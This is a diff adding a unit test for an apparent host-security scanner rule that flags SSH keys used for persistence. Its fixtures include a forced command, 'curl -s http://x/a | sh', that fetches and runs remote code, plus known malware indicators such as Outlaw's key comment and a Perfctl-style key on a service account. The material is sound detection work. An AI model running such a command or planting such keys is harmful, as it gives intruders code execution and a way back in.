@@ -3,6 +3,7 @@
  *   RM-PER-001 a job that fetches or decodes and runs code, or runs a
  *              program from a writable or hidden directory
  *   RM-PER-002 a foreign, writable or wrongly owned cron file
+ *   RM-PER-003 an SSH key that lets an intruder back in
  * Jobs are made with the real parser (collect/cron_parse.c) from lines.
  */
 #include "collect/cron_parse.h"
@@ -235,6 +236,87 @@ test_cron_files(void **state)
 	fx_free(x);
 }
 
+/* ---- RM-PER-003 ------------------------------------------------------------ */
+
+static struct ssh_key *
+key(struct snapshot *s, struct ssh_key *keys, const char *user, uint32_t uid,
+    const char *shell, const char *comment, const char *command)
+{
+	struct ssh_key *k = &keys[s->nssh_keys++];
+
+	memset(k, 0, sizeof(*k));
+	k->path = uid == 0 ? "/root/.ssh/authorized_keys" :
+	    "/home/x/.ssh/authorized_keys";
+	k->user = user;
+	k->uid = uid;
+	k->shell = shell;
+	k->line = (uint32_t)s->nssh_keys;
+	k->type = "ssh-ed25519";
+	k->fingerprint = "SHA256:4fScmOar4GLDeXbSV9R3O286bqcq/DHCaDZy+w7iKRs";
+	k->comment = comment;
+	k->command = command;
+	k->file_mode = 0100600;
+	k->file_uid = uid;
+	s->ssh_keys = keys;
+	return k;
+}
+
+static int
+key_sev(struct snapshot *s, size_t *n)
+{
+	struct findings fs;
+	int sev = -1;
+
+	tl_run_one(s, "RM-PER-003", &fs);
+	*n = fs.n;
+	if (fs.n)
+		sev = (int)fs.v[0]->severity;
+	findings_free(&fs);
+	return sev;
+}
+
+static void
+test_ssh_keys(void **state)
+{
+	struct ssh_key keys[4];
+	struct snapshot *s;
+	size_t n;
+
+	(void)state;
+	/* an administrator's key, root's and a user's: nothing */
+	s = tl_snap_new();
+	key(s, keys, "root", 0, "/bin/bash", "admin@laptop", NULL);
+	key(s, keys, "alice", 1000, "/bin/bash", "alice@desk", NULL);
+	assert_int_equal(key_sev(s, &n), -1);
+	s->nssh_keys = 0;
+	/* Outlaw's comment */
+	key(s, keys, "root", 0, "/bin/bash", "mdrfckr", NULL);
+	assert_int_equal(key_sev(s, &n), SEV_CRITICAL);
+	s->nssh_keys = 0;
+	/* Perfctl: the news account */
+	key(s, keys, "news", 9, "/usr/sbin/nologin", "", NULL);
+	assert_int_equal(key_sev(s, &n), SEV_HIGH);
+	s->nssh_keys = 0;
+	/* a forced command that fetches and runs */
+	key(s, keys, "alice", 1000, "/bin/bash", "", "curl -s http://x/a | sh");
+	assert_int_equal(key_sev(s, &n), SEV_HIGH);
+	s->nssh_keys = 0;
+	/* a cloud image's root stub alone: nothing; a key beside it: high */
+	key(s, keys, "root", 0, "/bin/bash", "cloud", "echo 'Please login as "
+	    "the user \"admin\" rather than the user \"root\".';exit 142");
+	assert_int_equal(key_sev(s, &n), -1);
+	key(s, keys, "root", 0, "/bin/bash", "x@y", NULL);
+	assert_int_equal(key_sev(s, &n), SEV_HIGH);
+	assert_int_equal(n, 1);
+	s->nssh_keys = 0;
+	/* a group-writable key file */
+	key(s, keys, "alice", 1000, "/bin/bash", "", NULL)->file_mode = 0100664;
+	assert_int_equal(key_sev(s, &n), SEV_MEDIUM);
+	s->ssh_keys = NULL;
+	s->nssh_keys = 0;
+	tl_snap_free(s);
+}
+
 int
 main(void)
 {
@@ -242,6 +324,7 @@ main(void)
 		cmocka_unit_test(test_cron_jobs),
 		cmocka_unit_test(test_cron_evidence),
 		cmocka_unit_test(test_cron_files),
+		cmocka_unit_test(test_ssh_keys),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
